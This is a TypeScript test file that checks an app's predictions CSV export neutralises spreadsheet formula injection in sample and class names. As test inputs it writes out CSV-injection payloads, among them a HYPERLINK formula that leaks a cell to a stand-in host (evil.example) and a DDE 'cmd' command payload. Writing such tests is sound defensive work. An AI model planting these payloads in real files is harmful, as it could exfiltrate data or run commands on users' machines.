/**
 * Issue 18, item 10: the predictions CSV guards every name from outside the app (samples, classes)
 * that a spreadsheet would run as a formula, by its first character as OWASP advises (= + - @, tab,
 * carriage return), digits after it or not; the numbers the app writes stay plain numbers.
 */
import { describe, expect, it } from 'vitest';
import type { Predictions } from '../../../src/api/aucmedi';
import { parseCsv } from '../../../src/dataset/csv';
import { csvText, predictionsCsv } from '../../../src/runs/results';

const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r'] as const;

/** Predictions as the reader gives them, with these sample and class names. */
function predictions(samples: string[], classes: [string, string]): Predictions {
  return { classes, rows: samples.map((sample) => ({ sample, probabilities: [0.25, 0.75], predictedClass: classes[1], probability: 0.75 })) };
}

describe('the predictions CSV export and spreadsheet formulas', () => {
  it.each(FORMULA_STARTS)('guards a name starting with %j, digits after it or not, as text', (start) => {
    for (const rest of ['2+HYPERLINK("http://evil.example","x")', 'cmd|" /C calc"!A0', '1', 'SUM(1,2)']) {
      const value = `${start}${rest}`;
      const cell = csvText(value);
      expect(cell.startsWith(`"'`)).toBe(true);
      // read back, the cell is the name with a leading apostrophe, nothing lost
      expect(parseCsv(`${cell}\n`, ',').records[0]!.cells).toEqual([`'${value}`]);
    }
  });

  it('the reported case: -2+HYPERLINK(...) as a sample name and as a class name comes out prefixed', () => {
    const hostile = '-2+HYPERLINK("http://evil.example/?leak="&A1,"click")';
    const csv = predictionsCsv(predictions([hostile, 'plain'], [hostile, '@SUM(1)']));
    const [header, first, second] = parseCsv(csv, ',').records.map((r) => r.cells);
    expect(header).toEqual(['SAMPLE', `'${hostile}`, "'@SUM(1)", 'PREDICTED', 'PROBABILITY']);
    expect(first).toEqual([`'${hostile}`, '0.25', '0.75', "'@SUM(1)", '0.75']);
    expect(second).toEqual(['plain', '0.25', '0.75', "'@SUM(1)", '0.75']);
  });

  it('leaves plain names and the numbers the app writes as they are (a negative number stays a number)', () => {
    expect(csvText('benign')).toBe('benign');
    expect(csvText('2')).toBe('2');
    expect(csvText('a=b')).toBe('a=b');
    expect(csvText('benign, early')).toBe('"benign, early"');
    const csv = predictionsCsv({ classes: ['a', 'b'], rows: [{ sample: 'x', probabilities: [-0.5, 1e-7], predictedClass: 'b', probability: 1e-7 }] });
    expect(csv).toBe('SAMPLE,a,b,PREDICTED,PROBABILITY\nx,-0.5,1e-7,b,1e-7\n');
  });
});
